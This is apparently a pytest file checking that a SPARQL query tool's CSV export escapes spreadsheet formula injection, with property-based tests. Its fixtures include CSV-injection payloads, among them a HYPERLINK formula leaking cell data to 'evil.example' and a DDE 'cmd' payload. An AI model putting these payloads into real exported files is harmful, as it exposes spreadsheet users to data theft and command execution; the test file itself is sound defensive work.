"""CSV that a spreadsheet opens: a cell starting like a formula is guarded with a leading ' (OWASP's
CSV-injection rule), numbers stay numbers, and --raw-csv / raw=True give the text exactly (issue 22 item 11)."""
from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from functiegebouw.cli import main
from functiegebouw.sparql.results import Result, spreadsheet_safe

STEAL = '=HYPERLINK("http://evil.example/steal?"&A1,"klik")'
HOSTILE = [STEAL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
HARMLESS = ["Medewerker", "-5", "+3.5", "-1e3", "12", "", "a=b", " =1", "'quoted"]


def label_data(tmp_path, labels):
    lines = [f'<urn:x:{i:03d}> <urn:fgr-test:label> "{_turtle(t)}" .' for i, t in enumerate(labels)]
    path = tmp_path / "labels.ttl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _turtle(text: str) -> str:
    return text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")


QUERY = "SELECT ?s ?label WHERE { ?s <urn:fgr-test:label> ?label } ORDER BY ?s"


def cells(text: str) -> list[str]:
    return [row[1] for row in csv.reader(io.StringIO(text))][1:]


def test_fgr_query_csv_guards_formulas_and_raw_csv_keeps_them(tmp_path, capsys):
    data = label_data(tmp_path, HOSTILE + HARMLESS)
    assert main(["query", QUERY, "-f", "csv", "--data", str(data)]) == 0
    guarded = cells(capsys.readouterr().out)
    assert guarded[:len(HOSTILE)] == ["'" + t for t in HOSTILE]
    assert guarded[len(HOSTILE):] == HARMLESS
    assert main(["query", QUERY, "-f", "csv", "--raw-csv", "--data", str(data)]) == 0
    assert cells(capsys.readouterr().out) == HOSTILE + HARMLESS


def test_the_api_guards_by_default_and_gives_the_raw_text_on_request():
    result = Result(["label"], [[{"type": "literal", "value": STEAL}], [{"type": "literal", "value": "-7",
                                 "datatype": "http://www.w3.org/2001/XMLSchema#integer"}]])
    assert result.to_csv() == "label\n\"'=HYPERLINK(\"\"http://evil.example/steal?\"\"&A1,\"\"klik\"\")\"\n-7\n"
    assert cells("x," + result.to_csv(raw=True).replace("\n", "\nx,")) [:2] == [STEAL, "-7"]


@pytest.mark.parametrize("text", HOSTILE)
def test_each_formula_start_is_guarded(text):
    assert spreadsheet_safe(text) == "'" + text


@settings(max_examples=300, deadline=None, derandomize=True)  # repeatable in CI
@given(st.text(max_size=20))
def test_a_guarded_cell_never_starts_like_a_formula_unless_it_is_a_number(text):
    safe = spreadsheet_safe(text)
    assert safe in (text, "'" + text)
    if safe.startswith(("=", "+", "-", "@", "\t", "\r")):
        float(safe)  # only a plain number is left as it is
